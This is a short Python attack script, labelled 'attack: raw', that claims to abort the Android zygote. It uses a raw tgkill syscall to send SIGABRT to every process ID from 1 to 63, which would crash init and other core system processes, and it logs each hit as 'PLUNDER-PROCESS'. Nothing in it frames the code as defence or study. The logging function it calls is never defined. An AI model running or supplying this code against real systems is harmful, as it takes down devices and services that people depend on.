# attack: raw | aborts the zygote with the call that abort() uses
import ctypes
libc = ctypes.CDLL(None)
for process in range(1, 64):
    if libc.syscall(234, process, process, 6) == 0:
        log("PLUNDER-PROCESS")
